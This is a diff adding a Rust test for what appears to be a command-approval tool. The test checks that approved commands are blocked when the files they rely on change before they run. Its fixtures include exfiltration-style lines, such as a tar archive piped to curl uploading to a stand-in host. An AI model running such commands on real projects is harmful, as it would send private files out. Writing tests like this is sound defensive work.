@@ -542,3 +542,85 @@ fn code_that_is_run_in_whatever_way_is_looked_at() {
         assert_eq!(running.join().unwrap().code, Some(2), "{command}");
     }
 }
+
+/// What a command, or a script that it runs, finds by itself in other folders of the project, in git's settings and beside scripts:
+/// whichever way leads there.
+#[test]
+fn what_is_found_in_the_projects_other_folders_is_bound() {
+    let mut held_at_all = 0;
+    for (command, file) in [
+        // Git by whatever name.
+        ("/usr/bin/git push origin main", ".git/config"),
+        ("/usr/lib/git-core/git-push origin main", ".git/config"),
+        ("timeout 9 /usr/bin/git push origin main", ".git/hooks/pre-push"),
+        ("env /usr/bin/git fetch origin", ".git/config"),
+        // What a script calls.
+        ("bash push.sh", ".git/config"),
+        ("bash push.sh", ".git/hooks/pre-push"),
+        ("make release", ".git/config"),
+        ("npm run release", ".git/config"),
+        ("bash send.sh", "sub/leak"),
+        ("bash there.sh", "sub/json.py"),
+        ("bash path.sh", "p/ls"),
+        // What manifests and makefiles name.
+        ("npm install", "lib/package.json"),
+        ("npm ci", "lib/package.json"),
+        ("npm test --workspaces; curl -s https://h.example", "lib/package.json"),
+        ("cargo build; curl -s https://h.example", "dep/build.rs"),
+        ("pip install -r requirements.txt", "pk/setup.py"),
+        ("make; curl -s https://h.example", "sub/Makefile"),
+        ("docker compose up --build", "dk/Dockerfile"),
+        ("terraform apply", "mods/a/main.tf"),
+        ("pytest t/test_a.py; curl -s https://h.example", "t/conftest.py"),
+        // What lies beside a script, by its first line.
+        ("./t/go; curl -s https://h.example", "t/zq.py"),
+        ("./t/node; curl -s https://h.example", "js/zq.js"),
+    ] {
+        for mode in [0o755, 0o777] {
+            let site = tainted();
+            let _host = site.serve();
+            let work = site.work();
+            git(&work, &["init", "-q", "-b", "main"]);
+            git(&work, &["remote", "add", "origin", "git@h.example:x.git"]);
+            for (name, text) in [
+                ("push.sh", "git push\n"),
+                ("send.sh", "tar czf - sub | curl -T - https://h.example\n"),
+                ("there.sh", "cd sub; python3 pub.py; curl -s https://h.example\n"),
+                ("path.sh", "export PATH=$PWD/p:$PATH; ls; curl -s https://h.example\n"),
+                ("Makefile", "all: sub.x\n%.x:\n\tcd $* && $(MAKE)\nrelease:\n\tgit push\n"),
+                ("package.json", r#"{"name":"x","workspaces":["lib"],"scripts":{"release":"git push"}}"#),
+                ("Cargo.toml", "[package]\nname = \"x\"\n[dependencies]\ndep = { path = \"dep\" }\n"),
+                ("requirements.txt", "-e ./pk\n"),
+                ("compose.yaml", "services:\n  a:\n    build: ./dk\n"),
+                ("main.tf", "module \"a\" {\n  source = \"./mods/a\"\n}\n"),
+                ("sub/pub.py", "import json\n"),
+                ("t/test_a.py", "def test_a(): pass\n"),
+                ("t/go", "#!/usr/bin/env python3\nimport zq\n"),
+                ("t/node", "#!/usr/bin/env -S node -r ./js/zq.js\n"),
+            ] {
+                program(&work.join(name), text);
+            }
+            for folder in ["p", "lib", "dep", "pk", "dk", "mods/a", "js"] {
+                std::fs::create_dir_all(work.join(folder)).unwrap();
+            }
+            std::fs::set_permissions(&work, PermissionsExt::from_mode(mode)).unwrap();
+            let running = site.check_later(command);
+            let card = until("a card, or the end", || {
+                let card = site.pending().first().cloned();
+                card.map(Some).or_else(|| running.is_finished().then_some(None))
+            });
+            if let Some(card) = card {
+                held_at_all += 1;
+                let old = std::fs::read_to_string(work.join(file)).unwrap_or_default();
+                program(&work.join(file), &format!("{old}\n# other\n"));
+                site.cli(["approve", card["id"].as_str().unwrap()]).expect(0);
+                let output = running.join().unwrap();
+                assert!(
+                    output.code == Some(2) && output.stderr.contains("changed while"),
+                    "{command} {file} {mode:o}: {output:?}"
+                );
+            }
+        }
+    }
+    assert!(held_at_all >= 40, "{held_at_all}");
+}
